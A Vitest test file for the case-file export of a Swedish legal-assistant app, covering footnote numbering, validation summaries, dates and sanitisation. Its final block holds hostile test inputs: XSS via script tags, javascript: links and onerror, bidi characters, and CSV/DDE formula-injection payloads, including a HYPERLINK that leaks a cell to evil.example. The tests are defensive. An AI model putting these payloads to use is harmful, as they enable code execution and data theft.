import { describe, expect, it } from 'vitest';
import type { DisplayedSource, ValidationReport } from '@/features/answer-blocks/answer-types';
import { answerFixture } from '../chat/testing/chat-fixtures';
import { buildCaseFile, type CaseFileInput, caseFileName, caseFileText, swedishIsoDate } from './case-file';

const [fixtureSource] = answerFixture().sources;

const source = (overrides: Partial<DisplayedSource>): DisplayedSource => ({
  ...(fixtureSource as DisplayedSource),
  title: '4 § lag (2018:222) om bostadsanpassningsbidrag',
  source: 'Lag (2018:222) om bostadsanpassningsbidrag',
  source_url: 'https://example.test/sfs-2018-222',
  ...overrides,
});

const section4 = source({});
const section7 = source({
  id: 's2',
  title: '7 § lag (2018:222) om bostadsanpassningsbidrag',
  section_reference: '7 §',
  citation: '7 § lag (2018:222) om bostadsanpassningsbidrag',
});
const ruling = source({
  id: 's3',
  title: 'HFD 2020 ref. 70',
  source: 'Högsta förvaltningsdomstolen',
  source_url: null,
  section_reference: 'HFD 2020 ref. 70',
  citation: 'HFD 2020 ref. 70',
  sfs_number: null,
  version_stamp: null,
});

const check = (statement: string, chunkId: string | null, valid: boolean, issues: string[] = []) => ({
  statement,
  chunkId,
  confidence: valid ? 0.9 : 0.2,
  verbatim: false,
  valid,
  issues,
});

const validation: ValidationReport = {
  total: 3,
  valid: 2,
  score: 0.67,
  statements: [
    check('Bidrag lämnas för anpassning av bostaden', 's1', true),
    check('Ansökan görs hos kommunen', 's2', true),
    check('Bidraget betalas inom en vecka', 's2', false, ['Låg överensstämmelse med källmaterial']),
  ],
};

const input = (overrides: Partial<CaseFileInput> = {}): CaseFileInput => ({
  earlier: [],
  question: '  Vem kan få bidrag?  ',
  answer:
    '**Kort svar**\nBidrag lämnas för anpassning (4 § lag (2018:222) om bostadsanpassningsbidrag). Ansökan görs hos kommunen (7 § lag (2018:222) om bostadsanpassningsbidrag). Bidrag lämnas bara en gång (4 § lag (2018:222) om bostadsanpassningsbidrag).',
  sources: [section7, section4, ruling],
  validation,
  productName: 'Handläggarstöd',
  version: '1.4.0',
  now: new Date('2026-11-25T23:30:00Z'),
  ...overrides,
});

describe('buildCaseFile', () => {
  it('numbers the cited sources in the order the answer first cites them, one number per source', () => {
    const caseFile = buildCaseFile(input());
    expect(caseFile.answer).toEqual([
      { type: 'heading', text: 'Kort svar' },
      {
        type: 'paragraph',
        lines: [
          'Bidrag lämnas för anpassning [1]. Ansökan görs hos kommunen [2]. Bidrag lämnas bara en gång [1].',
        ],
      },
    ]);
    expect(caseFile.footnotes.map((note) => [note.number, note.section])).toEqual([
      [1, '4 §'],
      [2, '7 §'],
    ]);
  });

  it('gives each footnote the section, the statute, its point in time, the link and the validation result', () => {
    const [first, second] = buildCaseFile(input()).footnotes;
    expect(first?.text).toBe(
      '4 §, Lag (2018:222) om bostadsanpassningsbidrag. Lydelse t.o.m. SFS 2025:453. https://example.test/sfs-2018-222. Bekräftad mot källtexten.',
    );
    expect(second?.confirmation).toBe('partly');
    expect(second?.text).toContain('Delvis bekräftad mot källtexten (1 av 2 påståenden)');
  });

  it('adds the SFS number when the statute name lacks it, and says when the link is missing', () => {
    const caseFile = buildCaseFile(
      input({
        answer: 'Se (4 § lag (2018:222) om bostadsanpassningsbidrag).',
        sources: [source({ source: 'Lag om bostadsanpassningsbidrag', source_url: 'null' })],
        validation: null,
      }),
    );
    expect(caseFile.footnotes[0]?.text).toBe(
      '4 §, Lag om bostadsanpassningsbidrag (SFS 2018:222). Lydelse t.o.m. SFS 2025:453. Länk saknas. Ej bekräftad mot källtexten.',
    );
  });

  it('lists the sources the answer does not cite after the footnotes, numbered on', () => {
    const caseFile = buildCaseFile(input());
    // No statement rests on the ruling, so there is nothing to confirm.
    expect(caseFile.otherSources.map((note) => [note.number, note.text, note.confirmation])).toEqual([
      [3, 'HFD 2020 ref. 70, Högsta förvaltningsdomstolen. Länk saknas.', null],
    ]);
    const checked = buildCaseFile(
      input({ validation: { ...validation, statements: [check('Praxis säger så här', 's3', false)] } }),
    );
    expect(checked.otherSources[0]?.text).toBe(
      'HFD 2020 ref. 70, Högsta förvaltningsdomstolen. Länk saknas. Ej bekräftad mot källtexten.',
    );
  });

  it('keeps every statement validation did not confirm, with its issues', () => {
    const caseFile = buildCaseFile(input());
    // The outputs put it under their own heading 'Validering', so the line does not repeat it.
    expect(caseFile.validationSummary).toBe('2 av 3 påståenden stöds av källorna.');
    expect(caseFile.unconfirmed).toEqual([
      { statement: 'Bidraget betalas inom en vecka', issues: ['Låg överensstämmelse med källmaterial'] },
    ]);
  });

  it('leaves an answer without known citations as it is, and says when the version is unknown', () => {
    const caseFile = buildCaseFile(
      input({
        answer: 'Inget stöd (5 § lag (1999:1) om annat).',
        sources: [],
        validation: null,
        version: null,
      }),
    );
    expect(caseFile.answer).toEqual([
      { type: 'paragraph', lines: ['Inget stöd (5 § lag (1999:1) om annat).'] },
    ]);
    expect(caseFile.footnotes).toEqual([]);
    expect(caseFile.validationSummary).toBeNull();
    expect(caseFile.producedBy).toBe('Handläggarstöd (okänd version)');
  });
});

describe('dates and names', () => {
  it('uses the day in Sweden', () => {
    // 23:30 UTC on 25 November is already 26 November in Stockholm.
    expect(swedishIsoDate(new Date('2026-11-25T23:30:00Z'))).toBe('2026-11-26');
    expect(caseFileName(new Date('2026-07-01T10:00:00Z'))).toBe('handlaggarstod-svar-2026-07-01.docx');
  });
});

describe('caseFileText', () => {
  it('is the question, the plain answer with marks, the footnotes, the validation, the date and the version', () => {
    expect(caseFileText(buildCaseFile(input()))).toBe(
      [
        'Fråga: Vem kan få bidrag?',
        '',
        'Svar:',
        'Kort svar',
        'Bidrag lämnas för anpassning [1]. Ansökan görs hos kommunen [2]. Bidrag lämnas bara en gång [1].',
        '',
        'Källor:',
        '[1] 4 §, Lag (2018:222) om bostadsanpassningsbidrag. Lydelse t.o.m. SFS 2025:453. https://example.test/sfs-2018-222. Bekräftad mot källtexten.',
        '[2] 7 §, Lag (2018:222) om bostadsanpassningsbidrag. Lydelse t.o.m. SFS 2025:453. https://example.test/sfs-2018-222. Delvis bekräftad mot källtexten (1 av 2 påståenden).',
        '',
        'Övriga hämtade källor (inte hänvisade till i svaret):',
        '[3] HFD 2020 ref. 70, Högsta förvaltningsdomstolen. Länk saknas.',
        '',
        'Validering: 2 av 3 påståenden stöds av källorna.',
        '',
        'Påståenden som valideringen inte bekräftade:',
        '• Ej bekräftat: ”Bidraget betalas inom en vecka” (Låg överensstämmelse med källmaterial)',
        '',
        'Framtaget med Handläggarstöd 1.4.0 den 2026-11-26.',
        '',
      ].join('\n'),
    );
  });
});

describe('a follow-up answer', () => {
  it('carries the questions and answers before it, numbered, and heads its own question Följdfråga', () => {
    const text = caseFileText(
      buildCaseFile(
        input({
          earlier: [
            {
              question: 'Vad är bostadsanpassningsbidrag?',
              answer: '**Kort svar**\nEtt bidrag till anpassning.',
            },
            { question: ' Vem ansöker? ', answer: '- Den som bor i bostaden.' },
          ],
        }),
      ),
    );
    expect(
      text.startsWith(
        [
          'Tidigare i konversationen:',
          'Fråga 1: Vad är bostadsanpassningsbidrag?',
          'Svar:',
          'Kort svar',
          'Ett bidrag till anpassning.',
          '',
          'Fråga 2: Vem ansöker?',
          'Svar:',
          '• Den som bor i bostaden.',
          '',
          'Följdfråga: Vem kan få bidrag?',
          '',
          'Svar:',
        ].join('\n'),
      ),
    ).toBe(true);
  });
});

describe('a hostile answer', () => {
  const hostile = [
    '**Kort svar**',
    'Ja \u202Eom\u202C upplåtelsen är lång\u200Bvarig (4 § lag (2018:222) om bostadsanpassningsbidrag).',
    '<script>alert("x")</script><b>Fet</b> text med [en länk](javascript:alert(1)) och javascript:alert(2) kvar.',
    '<a href="javascript:alert(3)">Öppna länken</a> och <img src=x onerror="alert(4)">bilden.',
    '=HYPERLINK("https://evil.example/?"&A1;"Klicka")',
    '+SUM(1;2)',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1;2)',
    '- en punkt som börjar med =1+1',
    '\u2066\u2067\u2068\u2069\u200E\u200F\u061C\u200C\u200D\u2060\uFEFF',
  ].join('\n');

  const copied = () =>
    caseFileText(
      buildCaseFile(
        input({
          question: 'Gäller \u202Edet\u202C här?',
          answer: hostile,
          validation: { ...validation, statements: [check("=cmd|' /C calc'!A0 <b>fet</b>", 's1', false)] },
        }),
      ),
    );

  it('copies the text the screen shows: no markup, no javascript: links, no bidi or zero-width characters', () => {
    const text = copied();
    for (const left of ['<', 'script', 'onerror', 'href', 'javascript', '**', 'alert(1)']) {
      expect(text).not.toContain(left);
    }
    expect(text).not.toMatch(/[\u061C\u200B-\u200F\u202A-\u202E\u2060\u2066-\u2069\uFEFF]/);
    expect(text).toContain('Fråga: Gäller det här?');
    expect(text).toContain('Ja om upplåtelsen är långvarig [1].');
    expect(text).toContain('Fet text med en länk och kvar.');
    expect(text).not.toContain('alert("x")');
    expect(text).toContain('Öppna länken och bilden.');
    expect(text).toContain('• en punkt som börjar med =1+1');
  });

  it('starts no line with =, +, - or @: a spreadsheet reads such a line as text', () => {
    const lines = copied().split('\n');
    expect(lines.filter((line) => /^[=+\-@\t]/.test(line))).toEqual([]);
    expect(lines).toContain('\'=HYPERLINK("https://evil.example/?"&A1;"Klicka")');
    expect(lines).toContain("'+SUM(1;2)");
    expect(lines).toContain("'@SUM(1;2)");
    expect(lines.some((line) => line.startsWith("'-2+3+cmd|"))).toBe(true);
    expect(lines).toContain("• Ej bekräftat: ”=cmd|' /C calc'!A0 fet”");
  });
});
